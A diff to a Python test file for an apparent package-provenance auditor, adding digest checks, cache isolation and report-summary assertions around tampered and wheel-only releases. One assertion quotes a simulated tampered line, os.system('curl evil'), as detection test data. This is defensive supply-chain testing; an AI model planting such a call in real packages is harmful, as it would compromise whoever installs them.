@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
 import json
 import tarfile
@@ -50,6 +51,7 @@ def test_compare_differs_lists_files_and_diffs_text() -> None:
     assert result.result == DIFFERS
     assert result.changed == ["alpha/__init__.py"]
     assert "+os.system('curl evil')" in result.diffs["alpha/__init__.py"]
+    assert result.digests["alpha/__init__.py"]["published"] == hashlib.sha256(b"").hexdigest()
     extra = io.BytesIO(tampered)
     with zipfile.ZipFile(extra, "a") as zf:
         zf.writestr("alpha/_native.so", b"\x7fELF\x00\x01")
@@ -98,7 +100,9 @@ def test_sdist_with_path_traversal_is_refused(tmp_path: Path) -> None:
     assert not (tmp_path / "escape.py").exists()
 
 
-def test_wheel_only_release_is_not_reproducible_from_source(capsys: pytest.CaptureFixture[str]) -> None:
+def test_wheel_only_release_is_not_reproducible_from_source(capsys: pytest.CaptureFixture[str], tmp_path: Path,
+                                                            monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("MLAUDIT_CACHE_DIR", str(tmp_path))  # the stored result must not leak into other tests
     index = LocalIndex()
     index.add_wheel("alpha", "1.0")
     with index.serve() as url:
@@ -108,6 +112,13 @@ def test_wheel_only_release_is_not_reproducible_from_source(capsys: pytest.Captu
     assert out["result"] == "not-reproducible-from-source"
     assert out["slsa"] == "neither"
     assert out["sdist"] is None
+    from auditor.model import Package, Report
+    from auditor.provenance.summary import summarise
+
+    report = Report()
+    report.add_package(Package("alpha", "1.0", properties={"provenance": "missing"}))
+    assert summarise(report, checked=True)["packages"] == {"alpha": "neither"}
+    assert report.packages["alpha"].properties["repro"] == "not-reproducible-from-source"
 
 
 def test_repro_usage_errors(capsys: pytest.CaptureFixture[str]) -> None:
